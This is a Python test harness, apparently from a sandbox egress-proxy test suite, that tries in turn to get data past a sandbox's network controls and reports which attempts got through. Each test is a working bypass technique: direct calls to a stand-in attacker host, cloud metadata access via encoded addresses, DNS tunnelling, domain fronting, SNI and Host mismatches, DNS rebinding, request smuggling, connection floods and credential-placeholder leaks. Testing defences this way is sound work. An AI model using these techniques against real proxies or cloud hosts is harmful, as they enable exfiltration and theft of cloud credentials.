"""Ways out of a sandbox, tried one after the other. Standard library only; not a library itself.

``python egress.py MODE NAME…``: MODE is ``inside`` (through the door or past it) or ``direct`` (the control:
the same aim from a place with a network). Prints a line of JSON for each name: ``{"attack", "word"}``; the
word is what it looked like from here, ``reached`` or why not. Each request carries ``/mark-NAME`` where it
can, so that the servers know what came through.
"""

import base64
import json
import os
import socket
import ssl
import struct
import sys
import time
import urllib.error
import urllib.request

HTTP, SOCKS, CAUGHT = 61128, 61080, 61443
API, SHARED, WEB = "93.184.216.10", "93.184.216.20", "93.184.216.30"
EVIL, METADATA, PRIVATE, API6 = "93.184.217.66", "169.254.169.254", "10.20.30.40", "2606:2800:220:1::10"
WAIT = 10.0
inside = True
mark = ""


class Stopped(Exception):
    """It did not come through, and how."""


def unverified(alpn=("http/1.1",)):
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(list(alpn))
    return context


def request(host, path=None, method="GET", more="", target=None):
    """A request as bytes; ``target`` for its absolute form."""
    path = path or "/mark-" + mark
    return (
        "{} {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n{}\r\n".format(
            method, (target or "") + path, host, more
        )
    ).encode()


def all_of(sock, limit=100000):
    data = b""
    while len(data) < limit:
        piece = sock.recv(65536)
        if not piece:
            break
        data += piece
    return data


def status_of(data):
    """2xx answers pass; others say what they were."""
    if not data:
        raise Stopped("closed")
    words = data.split(b" ", 2)
    if not data.startswith(b"HTTP/1.") or len(words) < 2:
        raise Stopped("garbage")
    if words[1][:1] not in b"23":
        raise Stopped(words[1].decode("latin-1"))
    return data


def dial(address, port):
    return socket.create_connection((address, port), WAIT)


def ask(sock, data):
    sock.sendall(data)
    return status_of(all_of(sock))


def connect(host, port, more="", host_header=None):
    """A tunnel through the proxy; directly, a connection to where the name really is."""
    if not inside:
        return dial(REAL.get(host.lower().rstrip("."), host), port)
    sock = dial("127.0.0.1", HTTP)
    authority = f"{host}:{port}"
    sock.sendall((f"CONNECT {authority} HTTP/1.1\r\nHost: {host_header or authority}\r\n{more}\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        piece = sock.recv(1)
        if not piece:
            raise Stopped("closed")
        head += piece
    if head.split(b" ")[1] != b"200":
        raise Stopped(head.split(b" ")[1].decode("latin-1"))
    return sock


REAL = {
    "api.example.test": API, "web.example.test": WEB, "front.example.test": SHARED,
    "hidden.example.test": SHARED, "inspected.example.test": SHARED, "evil.attacker.test": EVIL,
    "metadata.example.test": METADATA,
    "inner.example.test": PRIVATE, "rebind.example.test": METADATA, "mapped.example.test": PRIVATE,
    "keyed.example.test": API,
    "selfsigned.example.test": WEB, "wrongname.example.test": WEB, "expired.example.test": WEB,
    "2852039166": METADATA, "0251.0376.0251.0376": METADATA, "0xa9fea9fe": METADATA,
    "[::ffff:169.254.169.254]": METADATA,
}  # fmt: skip


def https(sock, name, host=None, path=None, verify=False):
    context = ssl.create_default_context() if verify else unverified()
    with context.wrap_socket(sock, server_hostname=name) as tls:
        return ask(tls, request(host or name, path))


def proxied(url_host, header=None, port=80):
    """Plain HTTP through the proxy in absolute form; directly, to the host of the URL."""
    where = url_host.rpartition("@")[2]
    name, _, digits = where.partition(":") if not where.startswith("[") else (where, "", "")
    if not inside:
        sock = dial(REAL.get(name.lower().rstrip("."), name), int(digits or port))
        return ask(sock, request(header or where))
    return ask(dial("127.0.0.1", HTTP), request(header or where, target="http://" + url_host))


def question(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 4711, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def answered(data):
    code, count = data[3] & 15, struct.unpack(">H", data[6:8])[0]
    if code or not count:
        raise Stopped(f"dns-{code}")


# -- what may pass: without these a door that is shut would look like a good one


def allowed_https():
    https(connect("api.example.test", 443), "api.example.test", verify=inside)


def allowed_http():
    proxied("web.example.test")


def allowed_socks():
    https(socks("api.example.test", 443), "api.example.test", verify=inside)


def allowed_caught():
    """A program that knows of no proxy: the name is resolved, the connection goes where it says."""
    https(dial("api.example.test" if inside else API, 443), "api.example.test", verify=inside)


def allowed_websocket():
    sock = connect("web.example.test", 80) if not inside else dial("127.0.0.1", HTTP)
    target = "http://web.example.test" if inside else ""
    key = base64.b64encode(os.urandom(16)).decode()
    more = f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
    head = request("web.example.test", more=more, target=target).replace(
        b"Connection: close", b"Connection: Upgrade"
    )
    sock.sendall(head)
    data = b""
    while b"\r\n\r\n" not in data:
        piece = sock.recv(1)
        if not piece:
            raise Stopped("closed")
        data += piece
    if b" 101 " not in data.split(b"\r\n")[0]:
        raise Stopped(data.split(b" ")[1].decode("latin-1"))
    text = b"mark-" + mark.encode()
    sock.sendall(bytes([0x81, 0x80 | len(text)]) + bytes(4) + text)
    if sock.recv(1000)[2:] != text:
        raise Stopped("no echo")


def allowed_spelling():
    """The same host in other spelling is the same host."""
    https(connect("API.Example.TEST.", 443), "api.example.test", verify=inside)


def allowed_tcp():
    sock = connect("api.example.test", 5432)
    sock.sendall(b"mark-" + mark.encode())
    if not sock.recv(100).startswith(b"mark-"):
        raise Stopped("no echo")


# -- past the door


def direct_address():
    ask(dial(EVIL, 80), request("evil.attacker.test"))


def direct_address_tls():
    https(dial(EVIL, 443), "evil.attacker.test")


def direct_allowed_address():
    """The address of an allowed host, but not by its name: nothing says that it is that host."""
    https(dial(API, 443), "api.example.test")


def direct_name():
    ask(dial("evil.attacker.test", 80), request("evil.attacker.test"))


def direct_ipv6():
    sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.connect((API6, 80))
    ask(sock, request("api.example.test"))


def direct_mapped():
    sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.connect(("::ffff:" + EVIL, 80))
    ask(sock, request("evil.attacker.test"))


def direct_metadata():
    ask(dial(METADATA, 80), request(METADATA))


def direct_private():
    ask(dial(PRIVATE, 80), request(PRIVATE))


def caught_wrong_sni():
    """To the made-up address of an allowed name, with another name in the handshake."""
    https(dial("api.example.test" if inside else EVIL, 443), "evil.attacker.test")


def no_proxy():
    os.environ["NO_PROXY"] = os.environ["no_proxy"] = "*"
    urllib.request.urlopen("http://evil.attacker.test/mark-" + mark, timeout=WAIT).read()


def unset_variables():
    for name in list(os.environ):
        if name.lower().endswith("_proxy"):
            del os.environ[name]
    urllib.request.urlopen(f"http://{EVIL}/mark-{mark}", timeout=WAIT).read()


def udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.sendto(b"mark-" + mark.encode(), (EVIL, 4000))
    if not sock.recv(100).startswith(b"heard:"):
        raise Stopped("no answer")


def quic():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    initial = b"\xc3\0\0\0\1\x08" + bytes(8) + b"\0\0\x44\xd0" + b"mark-" + mark.encode()
    sock.sendto(initial.ljust(1200, b"\0"), (EVIL, 443))
    if not sock.recv(2000).startswith(b"heard:"):
        raise Stopped("no answer")


def udp_by_socks():
    if not inside:
        return udp()
    sock = dial("127.0.0.1", SOCKS)
    sock.sendall(b"\5\1\0")
    sock.recv(2)
    sock.sendall(b"\5\3\0\1" + bytes(6))
    answer = sock.recv(10)
    if not answer or answer[1]:
        raise Stopped(f"socks-{answer[1] if answer else 255}")
    return None


def icmp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    sock.settimeout(2)
    sock.sendto(b"\x08\0\0\0\0\0\0\1" + b"mark-" + mark.encode(), (EVIL, 0))
    sock.recv(100)


def raw_socket():
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sock.settimeout(2)
    body = b"\x08\0\0\0\0\1\0\1mark"
    total = sum(struct.unpack(f"!{len(body) // 2}H", body))
    total = (total >> 16) + (total & 0xFFFF)
    body = body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
    sock.sendto(body, (EVIL, 0))
    sock.recv(100)


def packet_socket():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.close()


def set_route():
    """Change the network's rules: with netlink one would begin by naming a route."""
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    address = struct.pack("=HH4s", 8, 1, socket.inet_aton("192.0.2.1"))
    body = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0) + address + struct.pack("=HHI", 8, 4, 1)
    sock.sendall(struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
    answer = sock.recv(1000)
    error = -struct.unpack_from("=i", answer, 16)[0]
    if error:
        raise OSError(error, os.strerror(error))


# -- names


def dns_tunnel_udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(WAIT)
    sock.sendto(question(f"mark-{mark}.tunnel.attacker.test"), ("127.0.0.1" if inside else "9.9.9.9", 53))
    answered(sock.recv(2000))


def dns_tunnel_server():
    """A resolver of one's own choice."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    sock.sendto(question(f"mark-{mark}.tunnel.attacker.test"), ("9.9.9.9", 53))
    answered(sock.recv(2000))


def dns_tunnel_tcp():
    sock = dial("127.0.0.1" if inside else "9.9.9.9", 53)
    data = question(f"mark-{mark}.tunnel.attacker.test")
    sock.sendall(struct.pack(">H", len(data)) + data)
    answer = sock.recv(2000)
    if len(answer) < 10:
        raise Stopped("closed")
    answered(answer[2:])


def dns_tunnel_txt():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(WAIT)
    sock.sendto(question(f"mark-{mark}.tunnel.attacker.test", 16), ("127.0.0.1" if inside else "9.9.9.9", 53))
    answered(sock.recv(2000))


def dns_tunnel_proxy():
    """Names that only the proxy would resolve."""
    name = f"mark-{mark}.tunnel.attacker.test"
    if not inside:
        socket.getaddrinfo(name, 443)
    connect(name, 443)


# -- through the door, to where no rule leads


def connect_evil():
    https(connect("evil.attacker.test", 443), "evil.attacker.test")


def connect_address():
    https(connect(EVIL, 443), "evil.attacker.test")


def connect_other_port():
    https(connect("api.example.test", 8443), "api.example.test")


def connect_metadata():
    ask(connect(METADATA, 80), request(METADATA))


def connect_metadata_decimal():
    ask(connect("2852039166", 80), request(METADATA))


def connect_metadata_octal():
    ask(connect("0251.0376.0251.0376", 80), request(METADATA))


def connect_metadata_hex():
    ask(connect("0xa9fea9fe", 80), request(METADATA))


def connect_metadata_mapped():
    ask(connect("[::ffff:169.254.169.254]", 80), request(METADATA))


def name_to_metadata():
    """An allowed name whose address is the metadata service's."""
    proxied("metadata.example.test")


def name_to_private():
    proxied("inner.example.test")


def name_to_mapped():
    proxied("mapped.example.test")


def name_to_loopback():
    """Allowed too, and its address is the host's own loopback."""
    if not inside:
        return ask(dial(WEB, 80), request("web.example.test"))  # whoever listens there would answer
    return proxied("loop.example.test")


def rebinding():
    """An allowed name that is public at first, and the metadata service afterwards."""
    word = "closed"
    for _ in range(3):
        try:
            if b"metadata:" in proxied("rebind.example.test"):
                return
        except Stopped as error:
            word = str(error)
    raise Stopped(word)


def socks_evil():
    https(socks("evil.attacker.test", 443), "evil.attacker.test")


def socks_metadata():
    ask(socks(METADATA, 80), request(METADATA))


def socks(host, port):
    if not inside:
        return dial(REAL.get(host, host), port)
    sock = dial("127.0.0.1", SOCKS)
    sock.sendall(b"\5\1\0")
    if sock.recv(2) != b"\5\0":
        raise Stopped("socks")
    name = host.encode()
    sock.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + struct.pack(">H", port))
    answer = sock.recv(10)
    if len(answer) < 2 or answer[1]:
        raise Stopped(f"socks-{answer[1] if len(answer) > 1 else 255}")
    return sock


def http_evil():
    proxied("evil.attacker.test")


def http_userinfo():
    """The host is what comes after the @."""
    proxied("web.example.test@evil.attacker.test")


def http_other_host():
    """An allowed URL, and another host in the header."""
    proxied("web.example.test", header="hidden.example.test")


def connect_other_host():
    https(connect("api.example.test", 443, host_header="evil.attacker.test:443"), "api.example.test")


def sni_other():
    https(connect("api.example.test", 443), "hidden.example.test")


def sni_none():
    https(connect("api.example.test", 443), None, host="api.example.test")


def fronting_passed():
    """TLS that nobody opens, to a shared address: whom the request inside is for can't be seen."""
    https(connect("front.example.test", 443), "front.example.test", host="hidden.example.test")


def fronting_inspected():
    https(connect("inspected.example.test", 443), "inspected.example.test", host="hidden.example.test")


def relayed_connect():
    """An allowed host that relays for others."""
    sock = connect("web.example.test", 80)
    sock.sendall(b"CONNECT mark-%s.attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % mark.encode())
    status_of(sock.recv(1000))


def relayed_connect_tls():
    sock = connect("inspected.example.test", 443)
    with unverified().wrap_socket(sock, server_hostname="inspected.example.test") as tls:
        tls.sendall(b"CONNECT mark-%s.attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n" % mark.encode())
        status_of(tls.recv(1000))


def plain_where_tls():
    """A rule for TLS, and plain HTTP on its port."""
    ask(connect("front.example.test", 80), request("front.example.test"))


def method_other():
    """A rule for GET, and a DELETE."""
    sock = connect("inspected.example.test", 443)
    with unverified().wrap_socket(sock, server_hostname="inspected.example.test") as tls:
        ask(tls, request("inspected.example.test", method="DELETE"))


def path_traversal():
    """A rule for /mark-…, and dots in the path that lead elsewhere."""
    sock = connect("inspected.example.test", 443)
    with unverified().wrap_socket(sock, server_hostname="inspected.example.test") as tls:
        ask(tls, request("inspected.example.test", path="/mark-x/%2e%2e/secret/mark-" + mark))


def redirect_metadata():
    follow("http://web.example.test/redirect-to-metadata", b"metadata:")


def redirect_evil():
    follow("http://web.example.test/redirect-to-attacker", b"/stolen")


def follow(url, sign):
    context = unverified()
    proxies = dict.fromkeys(("http", "https"), f"http://127.0.0.1:{HTTP}") if inside else {}
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=context)
    )
    if sign not in opener.open(url, timeout=WAIT).read():
        raise Stopped("another answer")


def certificate_selfsigned():
    https(connect("selfsigned.example.test", 443), "selfsigned.example.test")


def certificate_wrongname():
    https(connect("wrongname.example.test", 443), "wrongname.example.test")


def certificate_expired():
    https(connect("expired.example.test", 443), "expired.example.test")


# -- smuggling: two readers that see different requests


def smuggle(more, body):
    hidden = f"GET /mark-{mark} HTTP/1.1\r\nHost: web.example.test\r\n\r\n"
    target = "http://web.example.test" if inside else ""
    data = f"POST {target}/first HTTP/1.1\r\nHost: web.example.test\r\n{more}\r\n\r\n{body + hidden}"
    sock = dial("127.0.0.1", HTTP) if inside else dial(WEB, 80)
    sock.sendall(data.encode("latin-1"))
    sock.settimeout(3)
    got = b""
    try:
        while got.count(b"HTTP/1.1 ") < 2:
            piece = sock.recv(65536)
            if not piece:
                break
            got += piece
    except TimeoutError:
        pass
    status_of(got)
    if got.count(b"HTTP/1.1 2") < 2:
        raise Stopped("one answer")


def smuggling_both_lengths():
    smuggle("Content-Length: 999\r\nTransfer-Encoding: chunked", "0\r\n\r\n")


def smuggling_two_lengths():
    smuggle("Content-Length: 999\r\nContent-Length: 0", "")


def smuggling_odd_coding():
    smuggle("Content-Length: 999\r\nTransfer-Encoding: xchunked, chunked", "0\r\n\r\n")


def smuggling_bare_newline():
    smuggle("X: y\nContent-Length: 999\r\nContent-Length: 0", "")


def smuggling_space():
    smuggle("Content-Length : 999\r\nContent-Length: 0", "")


# -- too much of it: the door still serves afterwards


def serves():
    https(connect("api.example.test", 443), "api.example.test", path="/still-there", verify=inside)


def oversized_headers():
    if inside:
        sock = dial("127.0.0.1", HTTP)
        try:
            sock.sendall(b"GET http://web.example.test/ HTTP/1.1\r\nHost: web.example.test\r\n")
            for number in range(64):
                sock.sendall(b"X-%d: " % number + b"a" * 32768 + b"\r\n")
            status_of(sock.recv(1000))
        except (OSError, Stopped):
            pass
        else:
            raise Stopped("taken")
    serves()


def slow_requests():
    held = []
    for _ in range(60 if inside else 0):
        sock = dial("127.0.0.1", HTTP)
        sock.sendall(b"GET http://web.example.test/ HT")
        held.append(sock)
    serves()


def slow_readers():
    held = []
    for _ in range(8 if inside else 0):
        sock = dial("127.0.0.1", HTTP)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendall(request("web.example.test", "/big", target="http://web.example.test"))
        held.append(sock)
    serves()


def flood():
    held = []
    for _ in range(700 if inside else 0):
        try:
            sock = socket.create_connection(("127.0.0.1", HTTP), 2)
            sock.sendall(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
            held.append(sock)
        except OSError:
            break
    for sock in held:
        sock.close()
    end = time.monotonic() + 60
    while True:
        try:
            return serves()
        except (OSError, Stopped):
            if time.monotonic() > end:
                raise
            time.sleep(0.2)


# -- credentials: the sandbox sees a placeholder, which is worth something at one host only


def bearer(sock, host, token, tls=True, target=""):
    data = request(host, more=f"Authorization: {token}\r\n", target=target)
    if not tls:
        return ask(sock, data)
    with unverified().wrap_socket(sock, server_hostname=host) as wrapped:
        return ask(wrapped, data)


def placeholder_bound():
    bearer(connect("keyed.example.test", 443), "keyed.example.test", "Bearer " + os.environ["PLACEHOLDER"])


def placeholder_elsewhere():
    target = "http://web.example.test" if inside else ""
    sock = dial("127.0.0.1", HTTP) if inside else dial(WEB, 80)
    bearer(sock, "web.example.test", "Bearer " + os.environ["PLACEHOLDER"], tls=False, target=target)


def placeholder_encoded():
    word = base64.b64encode(b"user:" + os.environ["PLACEHOLDER"].encode()).decode()
    bearer(connect("inspected.example.test", 443), "inspected.example.test", "Basic " + word)


def placeholder_passed():
    bearer(connect("api.example.test", 443), "api.example.test", "Bearer " + os.environ["PLACEHOLDER"])


# -- other ways


def abstract_socket():
    """A relay of a helper on the host, in the namespace of abstract names."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.connect("\0" + os.environ["RELAY"])
    ask(sock, request("evil.attacker.test"))


def neighbour():
    """A relay in another sandbox, which may do more: same port, same loopback address."""
    ask(dial("127.0.0.1", 7777), request("evil.attacker.test"))


def agent_ports():
    """The port for caught connections, spoken to without having been caught."""
    if not inside:
        return direct_address()
    return ask(dial("127.0.0.1", CAUGHT), request("evil.attacker.test"))


def pass_descriptor():
    """An inherited or received descriptor of a socket outside would be a way: none is there."""
    for number in range(3, 256):
        try:
            sock = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        if sock.family in (socket.AF_INET, socket.AF_INET6):
            raise Stopped("reached")
    if not inside:
        return direct_address()
    raise Stopped("none")


def main():
    global inside, mark
    inside = sys.argv[1] == "inside"
    for name in sys.argv[2:]:
        mark = name
        saved = dict(os.environ)
        try:
            globals()[name.replace("-", "_")]()
            word = "reached"
        except Stopped as error:
            word = str(error)
        except urllib.error.HTTPError as error:
            word = str(error.code)
        except urllib.error.URLError as error:
            word = getattr(error.reason, "strerror", None) or str(error.reason)
        except TimeoutError:
            word = "timeout"
        except ssl.SSLError as error:
            word = "tls:" + str(error.reason)
        except OSError as error:
            word = str(error.strerror or error)
        except Exception as error:
            word = f"broken: {type(error).__name__}: {error}"
        finally:
            os.environ.clear()
            os.environ.update(saved)
        print(json.dumps({"attack": name, "word": word}), flush=True)


if __name__ == "__main__":
    main()
